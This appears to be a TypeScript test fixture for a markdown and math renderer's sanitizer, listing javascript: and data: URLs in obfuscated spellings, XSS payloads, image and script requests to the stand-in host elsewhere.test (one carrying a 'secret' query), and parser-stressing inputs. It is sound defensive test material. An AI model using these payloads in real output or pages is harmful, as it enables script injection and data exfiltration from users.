/** What a model might write to do harm, by what it tries. */

/** Addresses that must never be asked for, each in its own spelling. */
export const ELSEWHERE = "https://elsewhere.test";

const SCRIPT_ADDRESSES = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
  "\u0001javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
  "&#x6A;&#x61;vascript:alert(1)", "java&#x09;script:alert(1)", "javascript:%61lert(1)", "vbscript:msgbox(1)",
  "data:text/html,<script>1</script>",
  "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd",
  "blob:https://elsewhere.test/1",
  "view-source:https://elsewhere.test", "intent://elsewhere.test#Intent;end", "//elsewhere.test/x", "/v1/account",
  "\\\\elsewhere.test\\x", "#x", "?x",
  "https://user:password@elsewhere.test/", "https://bank.test@elsewhere.test/", "ftp://elsewhere.test/x", "tel:123", "sms:123",
];

/** Links and images with each of these addresses. */
export const links: readonly string[] = SCRIPT_ADDRESSES.flatMap((address) => [
  `[text](<${address.replaceAll("\n", "")}>)`, `[text](${address})`, `![alt](${address})`, `[named]\n\n[named]: ${address}`,
  `<${address}>`,
]);

export const requests: readonly string[] = [
  `![a](${ELSEWHERE}/a.png)`, `![a](${ELSEWHERE}/a.png?words=secret)`, "![a](/same-origin.png)", "![a](same-origin.png)",
  "![a](data:image/png;base64,AAAA)",
  `<img src="${ELSEWHERE}/i.png" onerror="alert(1)">`, `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)><image href="${ELSEWHERE}/s.png"/></svg>`,
  `<iframe src="${ELSEWHERE}/f"></iframe>`, `<script src="${ELSEWHERE}/s.js"></script>`,
  `<script>\nfetch("${ELSEWHERE}")\n</script>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/c.css">`, `<link rel="dns-prefetch" href="//words.elsewhere.test">`,
  `<style>@import "${ELSEWHERE}/c.css"; body{background:url(${ELSEWHERE}/b.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`, `<form action="${ELSEWHERE}"><button>go</button></form>`,
  `<video src="${ELSEWHERE}/v.mp4" autoplay></video>`,
  `<object data="${ELSEWHERE}/o"></object>`, `<embed src="${ELSEWHERE}/e">`, `<audio src=${ELSEWHERE}/a autoplay>`,
  `<input type=image src="${ELSEWHERE}/i.png">`,
  `<p style="background:url(${ELSEWHERE}/p.png)">text</p>`, `<a href="javascript:alert(1)">x</a>`,
  `<details open ontoggle=alert(1)>`,
  `| <img src=${ELSEWHERE}/t.png onerror=alert(1)> | b |\n|---|---|\n| ![x](${ELSEWHERE}/c.png) | <script>alert(1)</script> |`,
  `- <img src="${ELSEWHERE}/l.png">\n\n> ![q](${ELSEWHERE}/q.png)`, `\`\`\`html\n<img src="${ELSEWHERE}/code.png">\n\`\`\``,
  `$\\includegraphics{${ELSEWHERE}/m.png}$`, `$$\\href{javascript:alert(1)}{x}$$`,
  `$\\htmlStyle{background:url(${ELSEWHERE}/k.png)}{x}$`,
  `$\\url{${ELSEWHERE}}$`, `$\\htmlData{x=1}{y}$ $\\htmlId{app}{y}$`,
];

export const shapes: readonly string[] = [
  "```\n```\n```\n``", "````md\n```js\nx\n```\n````", "~~~\n```\n~~~\n```", "- ```\n  x", "> ```\n> x\ny", "[[[[[[", "]]]]",
  "((((", "**_**_", "*a **b *c",
  "`` ` ``` `", "![[![[", "[a](b(c(d", "[a](<b", "<!-- x", "<?x", "<![CDATA[", "&#0; &#xD800; &#1114112; &bogus;", "$$$$",
  "$ $ $", "\\[ \\[", "\\(", "$$\nx",
  "|", "|-|", "|a|b|\n|-|", "|a\n|-\n|b|c|d", "- - - - -", "1. 1. 1.", "> > > >", "#", "####### x", "[x]: <", "[x]: y \"z",
  "___", "***", "\u0000", "\ud800",
  "<b>bold</b><br><i", "a\u202eb\u2066c\u200bd\u{e0041}e\ufeff", "`a\u202eb`", "[a\u202eb](https://example.org/\u202ex)",
  "```\n\u202e x\n```", "$\u202e$",
  "__proto__ [__proto__] [constructor]\n\n[__proto__]: /x\n[constructor]: /y", "1234567890. x", "-\n\n\n-", "\t\t- x\n\ty",
];

/** Texts that grow with `size`, each one the worst for something. */
export const growing: Readonly<Record<string, (size: number) => string>> = {
  "one line": (size) => "x".repeat(size),
  "nested quotes": (size) => ">".repeat(size),
  "nested quotes with spaces": (size) => "> ".repeat(size / 2),
  "nested lists": (size) => `${"- ".repeat(size / 2)}x`,
  "nested lists by indent": (size) => Array.from({ length: Math.sqrt(size) }, (_,
  depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  "nested emphasis": (size) => "*a **b ".repeat(size / 7),
  "unclosed emphasis": (size) => "**a.".repeat(size / 4),
  "unclosed brackets": (size) => "[".repeat(size),
  "brackets": (size) => "[a](b ".repeat(size / 6),
  "nested images": (size) => "![a](".repeat(size / 5) + ")".repeat(size / 5),
  "code marks": (size) => "`a``".repeat(size / 4),
  "attributes": (size) => "<__x=\"".repeat(size / 6),
  "letters before an at sign": (size) => `${"-".repeat(size)}@a.b`,
  "spaces before a line end": (size) => `a${" ".repeat(size)}\nb`,
  "short lines": (size) => "x  \n".repeat(size / 4),
  "dollars": (size) => "$a $b".repeat(size / 5),
  "open formulas": (size) => `${"\\[a\n".repeat(size / 4)}\n`,
  "doubled dollars": (size) => "$$a$$b\n".repeat(size / 7),
  "table heads": (size) => "(\n-|-\n".repeat(size / 6),
  "wide table": (size) => `${"|a".repeat(size / 4)}|\n${"|-".repeat(size / 4)}|\n`,
  "lazy quotes": (size) => "> - a\nb\n".repeat(size / 8),
  "titles": (size) => "[a]: b\n\"\n".repeat(size / 9),
  "hidden characters": (size) => "\u200b\u200c".repeat(size / 2),
  "blocks": (size) => "a\n\n".repeat(size / 3),
  "formulas": (size) => "$a$ ".repeat(size / 4),
};
